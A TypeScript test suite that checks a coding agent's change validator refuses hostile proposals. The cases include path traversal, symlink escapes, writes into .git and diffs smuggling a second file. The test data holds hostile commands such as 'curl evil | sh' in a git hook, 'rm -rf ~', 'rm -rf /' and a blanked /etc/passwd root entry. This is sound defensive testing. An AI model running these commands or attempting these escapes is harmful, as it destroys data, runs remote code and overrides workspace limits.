/**
 * Hostile proposals: each must be refused with a specific reason, and neither preparing nor applying it may change
 * a single byte anywhere in the workspace (including `.git/`) or in the folder beside it that symlinks point to.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { applyPreparedFile, ChangesetError, prepareChangeset, type ChangesetLimits } from '../../src/core/changeset/index.js';
import { Workspace } from '../../src/core/workspace.js';

let tmp: string;
let ws: Workspace;
const ledger = new Map<string, string>();

async function write(rel: string, content: string | Buffer): Promise<void> {
  const abs = path.join(tmp, 'ws', rel);
  await fs.mkdir(path.dirname(abs), { recursive: true });
  await fs.writeFile(abs, content);
}

/** Every node under `dir`: type, mode and bytes (or link target), keyed by relative path. */
async function snapshot(dir: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const walk = async (abs: string, rel: string): Promise<void> => {
    const st = await fs.lstat(abs);
    if (st.isSymbolicLink()) out.set(rel, `link ${await fs.readlink(abs)}`);
    else if (st.isDirectory()) {
      out.set(rel, `dir ${st.mode}`);
      for (const name of (await fs.readdir(abs)).sort()) await walk(path.join(abs, name), `${rel}/${name}`);
    } else if (st.isFile()) out.set(rel, `file ${st.mode} ${(await fs.readFile(abs)).toString('base64')}`);
    else out.set(rel, `other ${st.mode}`);
  };
  await walk(dir, '');
  return out;
}

interface Expected {
  status: 'invalid' | 'conflict';
  reason: RegExp;
}

/** Prepares and then tries to apply every file of `args`; asserts each outcome and that nothing on disk changed. */
async function expectRefused(args: unknown, expected: Expected[] | { thrown: RegExp }, limits?: Partial<ChangesetLimits>): Promise<void> {
  const beforeSnap = await snapshot(tmp);
  if ('thrown' in expected) {
    await assert.rejects(prepareChangeset(ws, args, ledger, limits), (err: unknown) => {
      assert.ok(err instanceof ChangesetError, `expected ChangesetError, got ${String(err)}`);
      assert.match(err.message, expected.thrown);
      return true;
    });
  } else {
    const prepared = await prepareChangeset(ws, args, ledger, limits);
    assert.equal(prepared.length, expected.length);
    prepared.forEach((file, i) => {
      assert.equal(file.status, expected[i]!.status, `file ${i}: ${file.reason}`);
      assert.match(file.reason ?? '', expected[i]!.reason);
      assert.equal(file.displayDiff, '');
      assert.equal(file.after, null);
    });
    for (const file of prepared) {
      const result = await applyPreparedFile(ws, file);
      assert.notEqual(result.status, 'applied');
      assert.equal(result.reason, file.reason);
    }
  }
  assert.deepEqual(await snapshot(tmp), beforeSnap, 'nothing on disk may change');
}

const one = (path: unknown, operation: unknown, diff: unknown) => ({ summary: 'hostile', changes: [{ path, operation, diff }] });
const invalid = (reason: RegExp): Expected[] => [{ status: 'invalid', reason }];

before(async () => {
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'deputy-hostile-'));
  const outside = path.join(tmp, 'outside');
  await fs.mkdir(outside);
  await fs.writeFile(path.join(outside, 'secret.txt'), 'secret\n');
  execFileSync('git', ['init', '-q', path.join(tmp, 'ws')]);
  await write('sub/.git/hooks/x', '#!/bin/sh\n');
  await write('src/a.ts', 'export const a = 1;\nexport const b = 2;\n');
  await write('src/twice.ts', 'f() {\n  x = 1;\n}\ng() {\n  x = 1;\n}\n');
  await write('stale-edit.txt', 'original\n');
  await write('stale-delete.txt', 'original\n');
  await write('base-race.txt', 'one\ntwo\n');
  await write('lf.txt', 'a\nb\nc\n');
  await write('image.bin', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01, 0x02]));
  await write('huge.txt', Buffer.alloc(2 * 1024 * 1024 + 10, 'x\n'));
  await fs.symlink(outside, path.join(tmp, 'ws', 'escape-dir'));
  await fs.symlink(path.join(outside, 'secret.txt'), path.join(tmp, 'ws', 'escape-file'));
  await fs.symlink(path.join(outside, 'created-through-link.txt'), path.join(tmp, 'ws', 'dangling'));
  await fs.symlink('.git', path.join(tmp, 'ws', 'gitlink'));
  execFileSync('mkfifo', [path.join(tmp, 'ws', 'pipe')]);
  ws = await Workspace.open(path.join(tmp, 'ws'));
  for (const p of ['src/a.ts', 'stale-edit.txt', 'stale-delete.txt', 'base-race.txt', 'lf.txt']) {
    ledger.set(p, (await ws.read({ path: p })).sha256);
  }
});

after(async () => {
  await fs.rm(tmp, { recursive: true, force: true });
});

const UPDATE_A = '@@\n-export const a = 1;\n+export const a = 42;\n';

test('control: a legitimate change does alter the snapshot', async () => {
  const beforeSnap = await snapshot(tmp);
  const [file] = await prepareChangeset(ws, one('control.txt', 'create', '+ok\n'), ledger);
  assert.equal((await applyPreparedFile(ws, file!)).status, 'applied');
  assert.notDeepEqual(await snapshot(tmp), beforeSnap);
  await fs.rm(path.join(ws.root, 'control.txt'));
});

test('../ traversal', () => expectRefused(one('../outside/secret.txt', 'update', UPDATE_A), invalid(/"\.\.\/outside\/secret\.txt" leads outside the workspace through "\.\."/)));
test('../ traversal after a real folder', () => expectRefused(one('src/../../outside/new.txt', 'create', '+x\n'), invalid(/leads outside the workspace/)));
test('..\\ traversal', () => expectRefused(one('..\\outside\\new.txt', 'create', '+x\n'), invalid(/contains a backslash; separate folders with "\/"/)));
test('mixed ..\\ and ../ traversal', () => expectRefused(one('src/..\\../outside/new.txt', 'create', '+x\n'), invalid(/backslash/)));
test('absolute POSIX path', () => expectRefused(one(path.join(tmp, 'outside', 'new.txt'), 'create', '+x\n'), invalid(/is absolute; give a path relative to the workspace root/)));
test('/etc/passwd', () => expectRefused(one('/etc/passwd', 'update', '@@\n-root:x:0:0\n+root::0:0\n'), invalid(/"\/etc\/passwd" is absolute/)));
test('Windows drive path', () => expectRefused(one('C:/Windows/System32/drivers/etc/hosts', 'create', '+x\n'), invalid(/is absolute/)));
test('symlinked folder pointing outside (create)', () => expectRefused(one('escape-dir/new.txt', 'create', '+x\n'), invalid(/goes through "escape-dir", a symbolic link that points outside the workspace/)));
test('symlinked folder pointing outside (update)', () => expectRefused(one('escape-dir/secret.txt', 'update', '-secret\n+pwned\n'), invalid(/symbolic link that points outside/)));
test('symlinked file pointing outside', () => expectRefused(one('escape-file', 'update', '-secret\n+pwned\n'), invalid(/"escape-file", a symbolic link that points outside/)));
test('dangling symlink a write would follow outside', () => expectRefused(one('dangling', 'create', '+pwned\n'), invalid(/symbolic link whose target does not exist/)));
test('.git/config', () => expectRefused(one('.git/config', 'update', '@@\n+[core]\n'), invalid(/"\.git\/config" is inside a \.git folder/)));
test('.GIT/config', () => expectRefused(one('.GIT/config', 'update', '+x\n'), invalid(/inside a \.git folder/)));
test('sub/.git/hooks/x', () => expectRefused(one('sub/.git/hooks/x', 'update', '+rm -rf ~\n'), invalid(/inside a \.git folder/)));
test('.git/hooks/pre-commit create', () => expectRefused(one('.git/hooks/pre-commit', 'create', '+#!/bin/sh\n+curl evil | sh\n'), invalid(/inside a \.git folder/)));
test('.git spelled for Windows (.git. and GIT~1)', () =>
  expectRefused({ summary: 's', changes: [{ path: '.git./config', operation: 'update', diff: '+x\n' }, { path: 'GIT~1/config', operation: 'update', diff: '+x\n' }] }, [
    { status: 'invalid', reason: /inside a \.git folder/ },
    { status: 'invalid', reason: /inside a \.git folder/ },
  ]));
test('symlink into .git', () => expectRefused(one('gitlink/hooks/post-checkout', 'create', '+x\n'), invalid(/"gitlink", a symbolic link into a \.git folder/)));
test('NUL byte in path', () => expectRefused(one('src/a.ts\0.txt', 'create', '+x\n'), invalid(/contains a NUL byte; give a plain relative path/)));
test('control character in path', () => expectRefused(one('src/a\n.ts', 'create', '+x\n'), invalid(/contains a control character/)));
test('NUL in content', () => expectRefused(one('nul.txt', 'create', '+abc\0def\n'), invalid(/The diff for "nul\.txt" contains a NUL byte/)));
test('a 50 MB diff', () => expectRefused(one('big.txt', 'create', `+${'y'.repeat(50 * 1024 * 1024)}\n`), invalid(/diffs total 50\.0 MiB, over the 8\.0 MiB limit/)));
test('a diff over the per-file limit', () => expectRefused(one('big.txt', 'create', `+${'y'.repeat(2 * 1024 * 1024)}\n`), invalid(/The diff for "big\.txt" is 2\.0 MiB, over the 1\.0 MiB limit for one file/)));
test('result over the file size limit', () =>
  expectRefused(one('src/a.ts', 'update', `@@\n export const b = 2;\n+${'z'.repeat(5000)}\n`), invalid(/"src\/a\.ts" would be 4\.9 KiB after the change, over the 4\.0 KiB limit/), { maxFileBytes: 4096 }));
test('malformed hunk header', () => expectRefused(one('src/a.ts', 'update', '@@ -1,two +1 @@\n-export const a = 1;\n+x\n'), invalid(/Hunk 1's header "@@ -1,two \+1 @@" \(line 1\) is malformed/)));
test('hunk context that does not match', () => expectRefused(one('src/a.ts', 'update', '@@\n export const a = 1;\n-export const c = 3;\n+x\n'), invalid(/Hunk 1 does not match the file: the line "export const c = 3;" is not in the file/)));
test('hunk that matches twice', () => expectRefused(one('src/twice.ts', 'update', '-  x = 1;\n+  x = 2;\n'), invalid(/Hunk 1 matches the file at 2 places \(lines 2, 5\)/)));
test('update of a missing file', () => expectRefused(one('src/missing.ts', 'update', '-a\n+b\n'), invalid(/"src\/missing\.ts" does not exist; use create/)));
test('create over an existing file', () => expectRefused(one('src/a.ts', 'create', '+replaced\n'), invalid(/"src\/a\.ts" already exists; to change it, read it and propose an update/)));
test('delete of an unread file', () => expectRefused(one('src/twice.ts', 'delete', ''), invalid(/"src\/twice\.ts" was never read in this session; read it first/)));
test('file edited since read', async () => {
  await write('stale-edit.txt', 'edited by a person\n');
  await expectRefused(one('stale-edit.txt', 'update', '-original\n+agent\n'), [{ status: 'conflict', reason: /"stale-edit\.txt" changed after you read it/ }]);
  // The reviewer's card shows which version the agent read, beside the one there now.
  const [file] = await prepareChangeset(ws, one('stale-edit.txt', 'update', '-original\n+agent\n'), ledger);
  assert.equal(file!.readSha256, ledger.get('stale-edit.txt'));
  assert.notEqual(file!.baseSha256, file!.readSha256);
});
test('file deleted since read', async () => {
  await fs.rm(path.join(ws.root, 'stale-delete.txt'));
  await expectRefused(one('stale-delete.txt', 'update', '-original\n+agent\n'), [{ status: 'conflict', reason: /"stale-delete\.txt" was deleted after you read it/ }]);
  const [file] = await prepareChangeset(ws, one('stale-delete.txt', 'update', '-original\n+agent\n'), ledger);
  assert.equal(file!.readSha256, ledger.get('stale-delete.txt'));
});
test('duplicate paths, even spelled differently', () =>
  expectRefused(
    { summary: 's', changes: [{ path: 'src/a.ts', operation: 'update', diff: UPDATE_A }, { path: 'lf.txt', operation: 'update', diff: ' z\n+x\n' }, { path: './src//a.ts', operation: 'update', diff: UPDATE_A }] },
    [
      { status: 'invalid', reason: /"src\/a\.ts" is proposed more than once \(also changes\[2\]\)/ },
      { status: 'invalid', reason: /Hunk 1 does not match the file: the line "z"/ },
      { status: 'invalid', reason: /"src\/a\.ts" is proposed more than once \(also changes\[0\]\)/ },
    ],
  ));
test('empty path', () => expectRefused(one('', 'create', '+x\n'), invalid(/names the workspace root; give the path of a file/)));
test('"." path', () => expectRefused(one('.', 'update', '+x\n'), invalid(/names the workspace root/)));
test('path to a directory', () => expectRefused(one('src', 'update', '-a\n+b\n'), invalid(/"src" is a folder, not a file/)));
test('FIFO target is refused unread', () => expectRefused(one('pipe', 'update', '-a\n+b\n'), invalid(/"pipe" is not a regular file/)));
test('non-string diff', () => expectRefused(one('src/a.ts', 'update', { hunks: [] }), invalid(/changes\[0\]\.diff must be a string .*got an object/)));
test('non-string path', () => expectRefused(one(['src', 'a.ts'], 'update', UPDATE_A), invalid(/changes\[0\]\.path must be a string .*got an array/)));
test('unknown operation', () => expectRefused(one('src/a.ts', 'rename', ''), invalid(/changes\[0\]\.operation must be "create", "update" or "delete"; got "rename"/)));
test('change that is not an object', () => expectRefused({ summary: 's', changes: [null] }, invalid(/changes\[0\] must be an object with path, operation and diff; got null/)));
test('missing summary marks every file', () =>
  expectRefused({ changes: [{ path: 'n1.txt', operation: 'create', diff: '+x\n' }, { path: 'n2.txt', operation: 'create', diff: '+y\n' }] }, [
    { status: 'invalid', reason: /no "summary"/ },
    { status: 'invalid', reason: /no "summary"/ },
  ]));
test('changes not an array', () => expectRefused({ summary: 's', changes: { path: 'x', operation: 'create', diff: '+x' } }, { thrown: /"changes" as an array .*got an object/ }));
test('arguments not an object', () => expectRefused('rm -rf /', { thrown: /propose_changes takes an object .*got a string/ }));
test('empty changes', () => expectRefused({ summary: 's', changes: [] }, { thrown: /empty "changes" array/ }));
test('over-many files', () =>
  expectRefused({ summary: 's', changes: Array.from({ length: 51 }, (_, i) => ({ path: `f${i}.txt`, operation: 'create', diff: '+x\n' })) }, { thrown: /got 51 files; at most 50/ }));
test('CRLF mismatch inside the diff', () => expectRefused(one('lf.txt', 'update', ' a\r\n-b\n+B\r\n c\n'), invalid(/mixes CRLF and LF line endings \(line 1/)));
test('binary target', () => expectRefused(one('image.bin', 'update', '-PNG\n+GIF\n'), invalid(/"image\.bin" is a binary file; Deputy edits text files only/)));
test('target over the size limit', () => expectRefused(one('huge.txt', 'update', '-x\n+y\n'), invalid(/"huge\.txt" is 2\.0 MiB, over the 2\.0 MiB limit/)));
test('V4A envelope naming another file', () =>
  expectRefused(one('src/a.ts', 'update', '*** Begin Patch\n*** Update File: ../../etc/passwd\n-root\n+pwned\n*** End Patch'), invalid(/names the file "\.\.\/\.\.\/etc\/passwd" but the change's path is "src\/a\.ts"/)));
test('V4A move', () =>
  expectRefused(one('src/a.ts', 'update', '*** Begin Patch\n*** Update File: src/a.ts\n*** Move to: ../x.ts\n-export const a = 1;\n*** End Patch'), invalid(/Move to.*not supported/)));
test('unified diff smuggling a second file', () =>
  expectRefused(one('src/a.ts', 'update', '--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-export const a = 1;\n+x\n--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n'), invalid(/starts another file's diff/)));
test('create that claims context lines', () => expectRefused(one('new.ts', 'create', '@@ -1,1 +1,2 @@\n existing\n+x\n'), invalid(/create may only add lines/)));
test('delete with a diff', () => expectRefused(one('src/a.ts', 'delete', '-export const a = 1;\n'), invalid(/delete takes an empty diff/)));

test('base changes between prepare and apply: conflict, nothing written', async () => {
  const [file] = await prepareChangeset(ws, one('base-race.txt', 'update', ' one\n-two\n+TWO\n'), ledger);
  assert.equal(file!.status, 'ready', file!.reason);
  await write('base-race.txt', 'one\ntwo\nthree (a person typed this meanwhile)\n');
  const beforeSnap = await snapshot(tmp);
  const result = await applyPreparedFile(ws, file!);
  assert.equal(result.status, 'conflict');
  assert.match(result.reason ?? '', /"base-race\.txt" changed after review; nothing was written/);
  assert.deepEqual(await snapshot(tmp), beforeSnap);
});

test('a folder swapped for an outside symlink between prepare and apply: nothing written', async () => {
  await write('swap/file.txt', 'keep\n');
  const reads = new Map([['swap/file.txt', (await ws.read({ path: 'swap/file.txt' })).sha256]]);
  const [file] = await prepareChangeset(ws, one('swap/file.txt', 'update', '-keep\n+pwned\n'), reads);
  assert.equal(file!.status, 'ready', file!.reason);
  await fs.rm(path.join(ws.root, 'swap'), { recursive: true });
  await fs.writeFile(path.join(tmp, 'outside', 'file.txt'), 'keep\n');
  await fs.symlink(path.join(tmp, 'outside'), path.join(ws.root, 'swap'));
  const beforeSnap = await snapshot(tmp);
  const result = await applyPreparedFile(ws, file!);
  assert.equal(result.status, 'invalid');
  assert.match(result.reason ?? '', /symbolic link that points outside/);
  assert.deepEqual(await snapshot(tmp), beforeSnap);
});
